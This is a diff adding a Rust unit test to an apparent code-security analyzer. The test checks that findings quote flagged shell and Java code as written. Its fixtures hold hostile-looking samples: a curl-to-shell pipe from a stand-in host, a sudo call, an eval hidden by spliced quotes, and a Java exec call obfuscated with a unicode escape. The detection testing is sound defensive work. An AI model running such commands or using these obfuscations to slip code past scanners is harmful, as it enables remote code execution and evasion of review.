@@ -4974,3 +4974,36 @@ fn javascript_held_globals_are_the_names_assigned_them() {
         ],
     );
 }
+
+/// A finding quotes the program as it was written where the reading kept its length: the
+/// options of a bash wrapper moved after the command it runs, a name's quotes spliced out.
+/// It quoted the text the rules read (`timeout bash 5 -c …`, a command line nobody wrote).
+/// An escape that shortened the text (Java's `\u0065`) still quotes the text as read.
+#[test]
+fn findings_quote_the_program_as_written_where_the_reading_kept_its_length() {
+    let cases = [
+        (
+            "bash",
+            "timeout 5 bash -c 'curl -s http://x | sh'\n",
+            "timeout 5 bash -c",
+        ),
+        ("bash", "nice -n 5 sudo id\n", "nice -n 5 sudo id"),
+        ("bash", "e'v'al \"$c\"\n", "e'v'al \"$c\""),
+    ];
+    for (language, code, quoted) in cases {
+        let found = analyzer().analyze(language, code.as_bytes());
+        assert!(
+            !found.findings.is_empty()
+                && found.findings.iter().all(|f| f.excerpt.starts_with(quoted)),
+            "{code:?}:\n{}",
+            describe(&found)
+        );
+    }
+    let java = "class A { void f() throws Exception { Runtime.getRuntime().\\u0065xec(\"id\"); } }";
+    let found = analyzer().analyze("java", java.as_bytes());
+    assert!(
+        found.findings.iter().any(|f| f.excerpt.contains(".exec(")),
+        "{}",
+        describe(&found)
+    );
+}
